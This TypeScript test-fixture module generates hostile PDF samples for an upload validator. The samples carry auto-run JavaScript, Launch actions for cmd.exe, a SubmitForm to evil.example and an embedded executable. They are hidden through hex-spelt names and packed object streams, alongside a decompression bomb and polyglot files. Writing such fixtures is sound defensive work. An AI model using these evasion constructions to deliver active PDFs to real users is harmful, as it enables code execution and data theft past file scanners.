import { deflateSync } from 'node:zlib';
import type { HostileFile } from './hostile-file.ts';

/** Objects that make a PDF act by itself, or carry something. */
const acts: Readonly<Record<string, string>> = {
  JavaScript: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'JavaScript in a stream': '<< /S /JavaScript /JS 9 0 R >>',
  Launch: '<< /S /Launch /F (cmd.exe) >>',
  'Launch of Windows': '<< /Type /Action /S /Launch /Win << /F (calc.exe) >> >>',
  SubmitForm: '<< /S /SubmitForm /F (https://evil.example) >>',
  ImportData: '<< /S /ImportData /F (data.fdf) >>',
  GoToE: '<< /S /GoToE /F (inner.pdf) >>',
  Rendition: '<< /S /Rendition /JS (x\\(\\)) >>',
  RichMedia: '<< /Type /Annot /Subtype /RichMedia >>',
  'a form of another language': '<< /XFA [ (template) 9 0 R ] >>',
  'an attached program': '<< /Type /Filespec /F (invoice.exe) /EF << /F 9 0 R >> /EmbeddedFiles 9 0 R >>',
  'an attachment beside an invoice':
    '<< /EmbeddedFiles 9 0 R /A << /UF (factur-x.xml) >> /B << /UF (other.js) >> >>',
};

/** A PDF of one page with further objects and, in its catalogue, further entries. */
export function pdf({
  objects = '',
  catalogue = '',
  tail = '',
}: { objects?: string; catalogue?: string; tail?: string } = {}): Buffer {
  const text = `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogue} >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
${objects}
trailer << /Size 9 /Root 1 0 R ${tail} >>
startxref
0
%%EOF
`;
  return Buffer.from(text, 'latin1');
}

/** An object stream that holds one object, packed, with a dictionary's further entries. */
function objectStream(object: string, { filter = '/FlateDecode', type = '/Type /ObjStm' } = {}): string {
  const packed = deflateSync(Buffer.from(`8 0 ${object}`, 'latin1')).toString('latin1');
  return `7 0 obj << ${type} /N 1 /First 4 /Filter ${filter} /Length ${packed.length} >>\nstream\n${packed}\nendstream endobj`;
}

const inHex = (text: string) =>
  text.replaceAll(
    /\/([A-Z])([A-Za-z]+)/g,
    (_, first: string, rest: string) => `/${first}#${rest.charCodeAt(0).toString(16)}${rest.slice(1)}`,
  );

/** PDFs that act, hidden in several ways, and PDFs that are broken, locked or something else as well. */
export function hostilePdfs(): HostileFile[] {
  const file = (name: string, bytes: Buffer, code: string): HostileFile => ({
    name: `a PDF with ${name}`,
    bytes,
    codes: [code],
    type: 'application/pdf',
    family: 'pdf',
  });
  const all: HostileFile[] = [];
  for (const [name, act] of Object.entries(acts)) {
    all.push(
      file(name, pdf({ objects: `8 0 obj ${act} endobj`, catalogue: '/OpenAction 8 0 R' }), 'pdf_active'),
      file(`${name}, in its catalogue`, pdf({ catalogue: `/OpenAction ${act}` }), 'pdf_active'),
      file(`${name}, names spelt in hex`, pdf({ objects: `8 0 obj ${inHex(act)} endobj` }), 'pdf_active'),
      file(`${name}, packed`, pdf({ objects: objectStream(act) }), 'pdf_active'),
      file(
        `${name}, packed without its type`,
        pdf({ objects: objectStream(act, { type: '' }) }),
        'pdf_active',
      ),
      file(
        `${name}, packed as a picture`,
        pdf({ objects: objectStream(act, { type: '/Type /XObject /Subtype /Image' }) }),
        'pdf_active',
      ),
    );
  }
  const [javaScript] = Object.values(acts) as [string];
  all.push(
    file(
      'objects packed twice',
      pdf({ objects: objectStream(javaScript, { filter: '[/ASCII85Decode /FlateDecode]' }) }),
      'pdf_active',
    ),
    file(
      'objects packed in an old way',
      pdf({ objects: objectStream(javaScript, { filter: '/LZWDecode' }) }),
      'pdf_active',
    ),
    file('a bomb of objects', pdf({ objects: objectStream('1 0 '.repeat(8_000_000)) }), 'pdf_active'),
    file('a lock', pdf({ tail: '/Encrypt 8 0 R' }), 'pdf_locked'),
    file('a lock in its trailer', pdf({ tail: '/Encrypt << /Filter /Standard /V 2 >>' }), 'pdf_locked'),
    file('no end', Buffer.from(pdf().toString('latin1').replace('%%EOF', ''), 'latin1'), 'pdf_unreadable'),
    file(
      'a program behind its end',
      Buffer.concat([pdf(), Buffer.from('MZ'), Buffer.alloc(4096, 1)]),
      'pdf_unreadable',
    ),
    file('nothing but its mark', Buffer.from('%PDF-'), 'pdf_unreadable'),
  );
  const whole = pdf({ objects: '% '.repeat(2000) });
  for (let part = 1; part < 20; part += 1) {
    all.push(
      file(
        `${part} of 20 parts`,
        whole.subarray(0, Math.floor((whole.length * part) / 20)),
        'pdf_unreadable',
      ),
    );
  }
  const before: Record<string, Buffer> = {
    'a program': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(60)]),
    'a web page': Buffer.from('<html><script>alert(1)</script>\n'),
    'one space': Buffer.from(' '),
    'an archive': Buffer.from('PK\u0003\u0004'),
    '1,000 zeros': Buffer.alloc(1000),
  };
  for (const [name, bytes] of Object.entries(before)) {
    all.push({
      ...file('', Buffer.concat([bytes, pdf()]), ''),
      name: `a PDF behind ${name}`,
      codes: refusedTypes,
    });
  }
  return all;
}

/** How a file of no known kind is refused, by what it was sent as. */
export const refusedTypes = [
  'unsupported_type',
  'photo_unreadable',
  'asset_type',
  'asset_unreadable',
  'price_sheet_unreadable',
  'pdf_unreadable',
  'asset_zip_unsafe',
  'asset_svg_active',
];
